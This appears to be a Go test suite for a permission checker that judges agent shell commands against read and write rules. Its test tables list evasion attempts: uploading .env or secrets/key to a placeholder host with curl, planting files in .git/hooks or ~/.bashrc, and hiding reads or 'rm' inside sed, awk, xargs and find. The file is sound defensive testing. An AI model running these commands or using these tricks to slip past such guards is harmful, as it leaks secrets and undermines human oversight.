package pipeline

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/toold/toold/scheduler/permission"
	"github.com/toold/toold/tools"
	"github.com/toold/toold/tools/bash"
	"github.com/toold/toold/tools/fs/repo"
	"github.com/toold/toold/tools/fs/workspace"
)

// A judged is a workspace with rules, and what becomes of commands in it.
type judged struct {
	files map[string]string // what begins with "-> " is a link
	rules []string          // "list rule" each
	calls map[string]string // "allow", "ask" or "deny", and behind a blank what the reason has to hold
}

// check judges each command in a workspace of its own; HOME is beside the root.
func (j judged) check(t *testing.T) {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	root, home := filepath.Join(base, "ws"), filepath.Join(base, "home")
	for _, dir := range []string{root, home} {
		if err := os.Mkdir(dir, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	for name, content := range j.files {
		if to, ok := strings.CutPrefix(content, "-> "); ok {
			if err := os.Symlink(to, filepath.Join(root, name)); err != nil {
				t.Fatal(err)
			}
			continue
		}
		plant(t, filepath.Join(root, name), content)
		if name == ".git/HEAD" { // git asks for these too before it takes a directory for a repository
			plant(t, filepath.Join(root, ".git/objects/x"), "")
			plant(t, filepath.Join(root, ".git/refs/x"), "")
		}
	}
	locks, err := workspace.OpenLocks(filepath.Join(base, "locks"))
	if err != nil {
		t.Fatal(err)
	}
	places, err := workspace.Open([]string{root}, locks)
	if err != nil {
		t.Fatal(err)
	}
	anchors := permission.Anchors{Home: home, Roots: []string{root}}
	rights := Rights{Policy: permission.Policy{Rules: compiled(t, j.rules, root, anchors)}, Anchors: anchors, Places: places, ReadState: new(workspace.ReadState), Confining: Confining{Runner: newRunner(t), Git: new(repo.Finder)}}
	for command, want := range j.calls {
		v := judge(t, strings.ReplaceAll(command, "ROOT", root), rights, &tools.Env{Dir: root, Environ: []string{"HOME=" + home}})
		decision, part, _ := strings.Cut(want, " ")
		if v.Decision.String() != decision || !strings.Contains(v.Text, part) {
			t.Errorf("%s\n got  %s: %s\n want %s", command, v.Decision, v.Text, want)
		}
	}
}

func plant(t *testing.T, name, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(name, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

func compiled(t *testing.T, lines []string, root string, anchors permission.Anchors) *permission.Rules {
	t.Helper()
	lists := []string{"deny", "ask", "allow"}
	var rules []permission.Rule
	for i, line := range lines {
		list, text, _ := strings.Cut(line, " ")
		rule, err := permission.ParseRule(permission.List(slices.Index(lists, list)), text, permission.Origin{File: "settings.json", Line: i + 1, Base: root})
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, rule)
	}
	return permission.Compile(rules, anchors)
}

func judge(t *testing.T, command string, rights Rights, env *tools.Env) permission.Verdict {
	t.Helper()
	input, err := json.Marshal(map[string]string{"command": command})
	if err != nil {
		t.Fatal(err)
	}
	c := &Call{Use: Use{Name: "Bash"}, Tool: bash.Tool(), rights: rights}
	if c.parsed, err = c.parse(input); err != nil {
		t.Fatal(err)
	}
	f, err := c.look(t.Context(), env)
	if err != nil {
		t.Fatal(command, err)
	}
	return permission.Decide(f, rights.Policy)
}

// TestPassedOver: what rg leaves out as hidden it reads all the same where an ignore file keeps it.
func TestPassedOver(t *testing.T) {
	t.Parallel()
	deny := []string{"deny Read(.env)"}
	judged{files: map[string]string{".env": "A=1", "a.ts": "", "sub/.env": ""}, rules: deny, calls: map[string]string{
		"rg A=": "allow", "rg A= sub": "allow", "rg --hidden A=": "ask .env", "rg -uu A=": "ask .env", "rg -. A=": "ask .env", "rg A= .": "allow",
	}}.check(t)
	for _, name := range []string{".ignore", ".rgignore", ".gitignore", ".git/info/exclude", "../home/.config/git/ignore", "../.ignore"} {
		judged{files: map[string]string{".env": "A=1", ".git/HEAD": "", name: "*.log\n  \n!.*\n"}, rules: deny, calls: map[string]string{"rg A=": "ask .env"}}.check(t)
		judged{files: map[string]string{".env": "A=1", ".git/HEAD": "", name: "*.log\n#!.env\n"}, rules: deny, calls: map[string]string{"rg A=": "allow"}}.check(t)
	}
	judged{files: map[string]string{".env": "A=1", ".git/HEAD": "", "../home/.gitconfig": "[core]\n\texcludesFile = ~/kept\n", "../home/kept": "!.env"}, rules: deny, calls: map[string]string{"rg A=": "ask .env"}}.check(t)
	linked := map[string]string{".env": "A=1", ".git": "gitdir: ../store/worktrees/w\n", "../store/worktrees/w/commondir": "../..\n", "../store/info/exclude": "!.env\n"}
	judged{files: linked, rules: deny, calls: map[string]string{"rg A=": "ask .env"}}.check(t)
	linked["../store/info/exclude"] = ".env\n"
	judged{files: linked, rules: deny, calls: map[string]string{"rg A=": "allow", "git diff": "allow"}}.check(t)
	judged{files: map[string]string{"sub/.ignore": "!.e*", "sub/.env": "A=1", "other/a": ""}, rules: deny, calls: map[string]string{"rg A=": "ask .env", "rg A= other": "allow"}}.check(t)
}

// TestTracked: what git keeps is shown by many commands, without its name.
func TestTracked(t *testing.T) {
	t.Parallel()
	files := map[string]string{".git/HEAD": "", "secrets/key": "", "src/a.go": "", "sub/b.go": "", ".env": "", ".gitignore": ".env\n*.log\n", "x.log": ""}
	judged{files: files, rules: []string{"deny Read(secrets/**)"}, calls: map[string]string{
		"git cat-file --batch <<< HEAD:secrets/key": "ask secrets", "git cat-file -p 3f2a91c": "ask secrets", "git rev-list --objects --all | git cat-file --batch": "ask secrets",
		"git grep k": "ask secrets", "git show HEAD": "ask secrets", "git log -p": "ask secrets", "git stash show -p": "ask secrets", "git diff": "ask secrets", "git diff --cached": "ask secrets",
		"git diff HEAD~2 HEAD": "ask secrets", "git log -U3": "ask secrets", "git show HEAD:secrets/key": "deny", "git diff -- ':!src'": "ask secrets", "git log --patch --stat": "ask secrets",
		"git diff -- secrets": "deny", "git grep --untracked k": "ask secrets", "git log -p -- '*key'": "ask secrets", "timeout 5 git show": "ask secrets",
		"git log": "allow", "git log --stat": "allow", "git status": "allow", "git status -vv": "ask secrets", "git diff --stat": "allow", "git show --name-only": "allow", "git grep -l k": "allow", "git ls-files": "allow",
		"git diff -- src": "allow", "git log -p -- src sub/b.go": "allow", "git show HEAD:src/a.go": "allow", "git blame src/a.go": "allow", "git cat-file -t HEAD": "allow",
		"git stash list": "allow", "git diff HEAD -- src/a.go": "allow", "git rev-list --objects --all": "allow", "git branch -a": "allow",
	}}.check(t)
	judged{files: files, rules: []string{"deny Read(.env)", "deny Read(*.log)", "ask Read(none/**)"}, calls: map[string]string{
		"git diff": "allow", "git log -p": "allow", "git show HEAD": "allow", "git grep k": "allow", "git cat-file -p 3f2a91c": "allow", "git diff main HEAD": "allow", "git diff HEAD~2 HEAD": "allow",
		"git diff .env src/a.go": "deny", "git grep --untracked k": "ask .env", "git diff --no-index . src": "ask .env", "git show HEAD:.env": "deny",
	}}.check(t)
	judged{files: map[string]string{".git/HEAD": "", ".env": "", ".ignore": ".env", "sub/.gitignore": "!.env", "sub/.env": ""}, rules: []string{"deny Read(.env)"}, calls: map[string]string{
		"git diff": "ask .env", "cd sub; git diff": "ask",
	}}.check(t)
	judged{files: map[string]string{".git/HEAD": "", ".gitignore": ".env\n", "sub/.gitignore": "!.env", "sub/.env": "", "out/.env": ""}, rules: []string{"deny Read(.env)"}, calls: map[string]string{
		"git diff": "ask sub/.env", "git diff -- out": "allow",
	}}.check(t)
}

// TestSelected: a search that leaves a file out does not read it, and what only looks as if it did so does.
func TestSelected(t *testing.T) {
	t.Parallel()
	files := map[string]string{".env": "", "a.ts": "", "sub/b.ts": "", "node_modules/x/.env": "", ".k.ts": ""}
	judged{files: files, rules: []string{"deny Read(.env)"}, calls: map[string]string{
		"rg x -t ts": "allow", "rg TODO -g '!.env'": "allow", "rg x -g '!node_modules'": "allow", "grep -rn TODO . --exclude=.env": "allow", "grep -rn x . --include=*.ts": "allow",
		"grep -rn x . --include='*.ts' --exclude='*.d.ts'": "allow", "grep -rn x --exclude-dir=node_modules --exclude=.env": "allow", "rg x -g '*.ts' -g '*.go'": "allow", "rg --type=ts x": "allow",
		"rg --hidden x -g '!.env'": "allow", "rg --hidden x -t ts": "allow",
		"rg --hidden x -g '!node_modules'": "ask .env", "rg -. x": "ask .env", "rg x -g '.e*'": "ask .env", "rg --hidden x -t sh": "ask .env", "rg -e -g -e '!.env' --hidden x": "ask .env",
		"grep -rn x . --exclude-dir=node_modules": "ask .env", "grep -r -e --exclude=.env .": "ask .env", "grep -r x -- --exclude=.env .": "ask .env", "grep -r x . --include=.e*": "ask .env",
		"grep -r x . --exclude=*.ts": "ask .env", "grep -r x . --exclude=.env --include=.env": "ask .env", "rg x --hidden --iglob '!.ENV'": "ask .env", "grep -r x . --exclude=.env $y": "ask",
		"rg x --type-add 'ts:.env' -t ts": "ask .env", "grep -r x . --include='[[:punct:]]env'": "ask .env",
	}}.check(t)
	judged{files: files, rules: []string{"deny Read(.k.ts)"}, calls: map[string]string{"rg x": "allow", "rg x -t ts": "ask .k.ts", "rg x -g '*.ts'": "ask .k.ts"}}.check(t)
}

// TestUnknownOperands: even what may run whatever it does is asked about where it reads what nobody knows, and rules are
// about that.
func TestUnknownOperands(t *testing.T) {
	t.Parallel()
	files := map[string]string{".env": "", "f": "", "names": "", ".git/HEAD": ""}
	calls := map[string]string{}
	for _, command := range []string{
		`cp "$x" y`, `mv "$x" y`, `base64 "$x"`, `sed -n p "$x"`, `awk 1 $x`, `sort "$x"`, `sort $x`, `less "$x"`, `git show HEAD:$x`, `source "$x"`, `. $x`, `curl -T "$x" u`, `curl -d @$x u`,
		`curl -F "f=@$x" u`, `curl --data-binary "@$x" u`, `tar cf a.tar "$x"`, `ls | xargs -n1 cat`, `ls | xargs -I{} cat {}`, `ls | xargs -d '\n' cat`, `ls | xargs -0 -n1 cat`, `xargs -a names cat`,
		`xargs -n1 cat < names`, `ls | xargs -P 4 -n 1 cat`, `sed -i -e s/a/b/ "$x"`, `ls | xargs -n1 head -3`, `for f in $(ls); do cp "$f" y; done`,
	} {
		calls[command] = "ask"
	}
	for _, command := range []string{
		`cp f y`, `npm test "$x"`, `make $x`, `rm "$x"`, `mkdir -p "$x"`, `sed -i "s/a/$x/" f`, `git commit -m "$x"`, `curl "$x"`, `curl -d "$x=1" u`, `echo "$x" > f`, `ls | xargs -n1 echo`, `ls | xargs -n1 npm test`,
		`git checkout "$x"`, `awk "{print $x}" f`, `ls "$y" | xargs -n1 rm`,
	} {
		calls[command] = "allow"
	}
	delete(calls, `ls "$y" | xargs -n1 rm`)
	delete(calls, `curl -d "$x=1" u`)
	judged{files: files, rules: []string{"deny Read(.env)", "allow Bash"}, calls: calls}.check(t)
	for command := range calls {
		calls[command] = "allow"
	}
	delete(calls, `curl "$x"`)
	judged{files: files, rules: []string{"allow Bash"}, calls: calls}.check(t)
	judged{files: files, rules: []string{"deny Bash(git push *)", "allow Bash"}, calls: map[string]string{
		"ls | xargs -n1 git": "ask", "xargs -n1 git": "ask", "xargs -a names git": "ask", "ls | xargs -d '\\n' git": "ask", "ls | xargs -0 -n1 git": "ask", "ls | xargs -P4 git": "ask",
		"ls | xargs -I{} git {}": "ask", "ls | xargs git": "ask", "echo push | xargs -n1 git": "deny", "ls | xargs -n1 cat": "allow", "ls | xargs -n1 git add": "allow",
		"xargs git": "ask", "echo add | xargs -a names git": "ask",
	}}.check(t)
	judged{files: files, rules: []string{"deny Bash(rm *)", "allow Bash"}, calls: map[string]string{
		"trap -- 'rm x' EXIT": "deny", "trap 'rm x' 0": "deny", "trap -- 'rm x' 0": "deny", `trap -- "$x" EXIT`: "ask", "trap -- - EXIT": "allow",
		"fd -x rm": "deny", "fd a -X rm": "deny", "fd a --exec rm {}": "deny", "fd --exec-batch rm": "deny", "fd a -x wc -l": "allow", "fdfind a --exec=rm": "deny", "fd a -tf -x rm -f {}": "deny",
		"fd a -x ls \\; -x rm": "deny", "fd -Hx rm": "deny", "fd a -xrm": "deny",
	}}.check(t)
}

// TestProtectedWords: what may write a protected file asks, whichever way the file is named, also where all commands are
// allowed.
func TestProtectedWords(t *testing.T) {
	t.Parallel()
	files := map[string]string{"evil": "", ".git/HEAD": "", ".git/config": "", ".git/hooks/p": "", "a": "", "../home/.bashrc": ""}
	calls := map[string]string{}
	for _, command := range []string{
		`cp -t .git/hooks evil`, `cp --target-directory=.git/hooks evil`, `mv -t .git/hooks evil`, `ln -t .git/hooks evil`, `cp -t ~ .bashrc`, `install evil .envrc`, `dd if=a of=.npmrc`,
		`rsync evil .git/hooks/`, `sort -o .npmrc a`, `sort -o.npmrc a`, `curl -o .npmrc u`, `curl -o.npmrc u`, `wget -O .envrc u`, `wget --output-document=.envrc u`, `tar xf a -C .git/hooks`,
		`split a .git/hooks/`, `xxd -r a .git/hooks/p`, `uniq a .git/hooks/p`, `shuf -o .envrc a`, `sed "w .git/hooks/p" a`, `awk '{print > ".git/hooks/p"}' a`, `perl -pi -e s/a/b/ .envrc`, `vim .git/config`,
		`cp evil .g*/hooks/p`, `cd .git/hooks && install ../../evil q`, `install evil ~/.bashrc`, `install evil "$HOME/.bashrc"`, `sudo install evil .envrc`, `git checkout x -- .npmrc`,
		`find . -exec cp -t .git/hooks {} +`, `sed -e 1d -e 's/a/b/w .envrc' a`, `cp evil .git/hooks/p`, `tee .envrc`, `echo x >> .envrc`,
	} {
		calls[command] = "ask"
	}
	for _, command := range []string{
		`git add .npmrc`, `git commit -m .npmrc`, `source ~/.cargo/env`, `npm test`, `export KUBECONFIG=$HOME/.kube/config`, `curl -o out u`, `cat .npmrc`, `make CC=gcc`, `KUBECONFIG=$HOME/.kube/config make`,
		`sed -n 1p .npmrc`, `ssh -i ~/.ssh/id host`, `cd src && install a b`,
	} {
		calls[command] = "allow"
	}
	judged{files: files, rules: []string{"allow Bash"}, calls: calls}.check(t)
}

// TestNamedInside: a path is found inside an argument as well.
func TestNamedInside(t *testing.T) {
	t.Parallel()
	files := map[string]string{".env": "", "secrets/key": "", "f": ""}
	judged{files: files, rules: []string{"deny Read(.env)", "deny Read(secrets/**)", "deny Bash(rm *)", "allow Bash"}, calls: map[string]string{
		"sed 'r .env' f": "deny .env", "sed 'w .env' f": "deny .env", "sed '1e rm x' f": "deny rm", "sed 's/a/b/w .env' f": "deny .env", "sed 'R .env\n1d' f": "deny .env", "sed -n -e 1p -e 'r .env' f": "deny .env",
		"sed -i '1r .env' f": "deny .env",
		`awk 'BEGIN { while ((getline l < ".env") > 0) print l }'`: "deny .env", `awk '{ print > ".env" }' f`: "deny .env", `awk 'BEGIN { system("rm x") }'`: "deny rm", `awk '{ print | "rm x" }' f`: "deny rm",
		`awk 'BEGIN { "rm x" | getline }'`: "deny rm", `awk '{ print >> ".env" }' f`: "deny .env",
		"curl -d @.env u": "ask .env", "curl -F f=@secrets/key u": "ask secrets", "curl --data-binary=@.env u": "ask .env", "curl -d@.env u": "ask .env", "curl file://ROOT/.env": "ask .env", "curl -T.env u": "ask .env",
		"curl FILE://localhostROOT/.env": "ask .env", "docker run -v ./secrets:/s img": "ask secrets", "docker run -v ROOT/secrets:/s:ro img": "ask secrets", "docker run --mount type=bind,source=./secrets,target=/s img": "ask secrets",
		"cd src; ./x ../.env": "ask .env", "curl https://x.org/.env": "ask to contact x.org", "npm run build:secrets": "allow", "curl -F 'f=@secrets;type=x' u": "ask secrets", "curl -d @secrets u": "ask secrets", "x a:secrets/key": "ask secrets", "docker run -v ./src:/s img": "allow", "npm test": "allow", "sed 's/a/b/' f": "allow", "awk '{print $1}' f": "allow",
		"awk '{ print \"rm x\" > \"out\" }' f": "allow", "sed -i 's/.env/x/' f": "allow",
	}}.check(t)
}

// TestGiven: what find and git name to another program is no more than what they find.
func TestGiven(t *testing.T) {
	t.Parallel()
	files := map[string]string{".env": "", "src/a.ts": "", "src/b.ts": "", ".git/HEAD": "", ".gitignore": ".env\n", "e.ts/x": "", "conf/.env.ts/.env": ""}
	judged{files: files, rules: []string{"deny Read(.env)"}, calls: map[string]string{
		"find . -type f -name '*.ts' -exec grep -l export {} +": "allow", "find src -type f | xargs grep -l x": "allow", "git ls-files | xargs wc -l": "allow",
		"find . -name '*.ts' | xargs grep -n export": "allow", "find . -name '*.ts' -print0 | xargs -0 cat": "allow", "find . -name '*.ts' -not -path './node_modules/*' | head -20 | xargs grep x": "allow",
		"git ls-files '*.ts' | xargs grep -l x": "allow", "git ls-files -z | xargs -0 wc -l": "allow", "find src -name '*.ts' 2>/dev/null | sort | xargs cat": "allow", "git ls-files | grep ts | xargs wc -l": "allow",
		"find . -type f -exec grep -l export {} +": "ask .env", "find . -type f | xargs cat": "ask .env", "find . -name '*.ts' -o -name '.e*' | xargs cat": "ask .env", "find . ! -name '*.ts' | xargs cat": "ask .env",
		"find . -name '*.ts' -exec grep -r x {} +": "ask .env", "find . -name '*.ts' -exec grep x . {} +": "ask .env", "find . -name '*.ts' -exec cat {} + -o -exec cat {} +": "ask .env",
		"find . -name '*.ts' | xargs grep -r x": "ask .env", "find . -name '*.ts' | xargs cat .env": "deny", "git ls-files -o | xargs cat": "ask", "find . -name '*.ts' -print0 | xargs cat": "ask",
		"find . -newer -name '*.ts' | xargs cat": "ask", "find . -name '[[:punct:]]env' | xargs cat": "ask .env", "find . -name '*.ts' | sed 's/.ts//' | xargs cat": "ask", "find src | xargs sort": "ask", "cat names | xargs cat": "ask",
		"find() { echo .env; }; find src | xargs cat": "ask", "find src | tee o | xargs cat": "ask", "git ls-files .. | xargs cat": "ask", "find src -printf .env | xargs cat": "ask",
		"find . -name '*.ts' | xargs rg x": "ask", "find . -name '*.ts' | xargs -n1 grep -n x": "allow", "find . -name '*.ts' | xargs -I{} grep -n x {}": "allow", "find . -name '*.ts' | xargs -d '\\n' cat": "allow",
		"find . -name '*.ts' | xargs -d t cat": "ask", "find . -name '*.ts' -print0 | xargs -0 -d '\\n' cat": "ask", "find . -name '*.ts' | xargs -n1 grep -rn x": "ask", "find . -type f | xargs -n1 cat": "ask .env", "find . -type f | xargs -I{} cat {}": "ask .env",
		"find src | xargs -I{} cat {}/../.env": "ask",
	}}.check(t)
	judged{files: map[string]string{".git/HEAD": "", ".gitignore": ".env", ".env": "", "-f.env": ""}, rules: []string{"deny Read(.env)"}, calls: map[string]string{"git ls-files | xargs grep x": "ask"}}.check(t)
	judged{files: map[string]string{".env": "", "src/a .env": ""}, rules: []string{"deny Read(.env)"}, calls: map[string]string{
		"find src -type f | xargs cat": "ask", "find src -type f -print0 | xargs -0 cat": "allow",
	}}.check(t)
}

// TestLinked: a link's name says nothing of what it leads to.
func TestLinked(t *testing.T) {
	t.Parallel()
	judged{files: map[string]string{".env": "", "x.ts": "-> .env", ".git/HEAD": "", ".gitignore": ".env"}, rules: []string{"deny Read(.env)"}, calls: map[string]string{
		"find . -name '*.ts' | xargs cat": "ask", "find . -name '*.ts' -exec cat {} +": "ask", "git ls-files | xargs cat": "ask", "grep -R x . --include='*.ts'": "ask", "rg -L x -g '*.ts'": "ask",
		"grep -r x . --include='*.ts'": "allow", "git diff": "allow",
	}}.check(t)
}

// TestBlames: what is said is about what is meant, and said once.
func TestBlames(t *testing.T) {
	t.Parallel()
	files := map[string]string{".env": "", "secrets/key": "", "evil": "", ".git/HEAD": "", ".git/hooks/p": "", "../home/.bashrc": ""}
	judged{files: files, rules: []string{"deny Read(.env)", "ask Read(secrets/key)", "allow Bash"}, calls: map[string]string{
		"f=key; cp sec*/$f y": "ask secrets/key, and the ask rule", "echo x >> ~/.bashrc": "ask .bashrc, which programs obey",
		"cp evil .git/hooks/pre-commit": "ask It would change", "curl file:///srv/x": "allow",
	}}.check(t)
}
